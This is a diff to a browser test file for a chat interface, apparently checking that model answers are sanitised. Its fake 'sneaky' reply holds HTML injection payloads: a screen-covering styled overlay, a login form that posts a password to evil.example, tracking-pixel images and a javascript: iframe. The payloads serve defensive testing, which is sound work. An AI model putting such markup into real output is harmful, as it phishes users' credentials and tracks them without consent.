@@ -36,9 +36,19 @@ const HOSTILE_ANSWER = [
   '<iframe src="javascript:parent.__pwned = 5"></iframe>',
 ].join("\n\n");
 
+/** Model output that survives a default sanitiser: styles, a form, an external image (a tracking pixel). */
+const SNEAKY_ANSWER = [
+  '<p style="position:fixed;inset:0;background:red">Covered</p>',
+  '<form action="https://evil.example/steal"><input name="password" placeholder="Your password"><button>Log in</button></form>',
+  '![pixel](https://tracker.example/pixel.png) <img src="http://tracker.example/p.gif" alt="gif">',
+  "[docs](https://example.com/docs) and [local](/ui/config) and [mail](mailto:a@b.example)",
+  '<svg><image href="https://tracker.example/s.png"></image></svg>',
+].join("\n\n");
+
 function replyFor(message: string): FakeReply {
   if (message.startsWith("markdown")) return { text: MARKDOWN_ANSWER, chunkDelayMs: 25 };
   if (message.startsWith("hostile")) return { text: HOSTILE_ANSWER };
+  if (message.startsWith("sneaky")) return { text: SNEAKY_ANSWER };
   if (message.startsWith("slow"))
     return { chunks: Array.from({ length: 300 }, (_, i) => `word${i} `), chunkDelayMs: 30 };
   if (message.startsWith("fail")) return { chunks: ["Partial ", "answer ", "here"], cutAfterChunks: 2 };
@@ -194,6 +204,37 @@ describe.skipIf(!hasChromium)("chat page in Chromium", () => {
     await page.waitForSelector("body[data-ready]");
     expect(await rows().allTextContents()).toEqual(before);
     expect(await page.locator(".msg.assistant").first().locator("pre code").count()).toBe(1);
+  });
+
+  it("drops styles, forms, inputs and external images from the answer; links stay http(s) with noopener", async () => {
+    const requested: string[] = [];
+    page.on("request", (r) => requested.push(r.url()));
+    await sendWithEnter("sneaky answer please");
+    await waitForAnswerDone();
+    const answer = lastAnswer();
+    expect(await answer.textContent()).toContain("Covered");
+    const found = await answer.evaluate((el) => ({
+      styled: el.querySelectorAll("[style]").length,
+      forms: el.querySelectorAll("form, input, button, textarea, select").length,
+      images: Array.from(el.querySelectorAll("img")).map((i) => i.getAttribute("src")),
+      svg: el.querySelectorAll("svg, image").length,
+      links: Array.from(el.querySelectorAll("a")).map((a) => ({
+        href: a.getAttribute("href"),
+        rel: a.getAttribute("rel"),
+        text: a.textContent,
+      })),
+    }));
+    expect(found.styled).toBe(0);
+    expect(found.forms).toBe(0);
+    expect(found.images).toEqual([]);
+    expect(found.svg).toBe(0);
+    // External images became links the user may choose to open; other schemes lost their href.
+    expect(found.links.filter((l) => l.href !== null)).toEqual([
+      { href: "https://tracker.example/pixel.png", rel: "noopener noreferrer", text: "pixel" },
+      { href: "http://tracker.example/p.gif", rel: "noopener noreferrer", text: "gif" },
+      { href: "https://example.com/docs", rel: "noopener noreferrer", text: "docs" },
+    ]);
+    expect(requested.filter((u) => u.includes("tracker.example"))).toEqual([]);
   });
 
   it("Stop ends the stream, keeps the partial answer and says it was stopped", async () => {
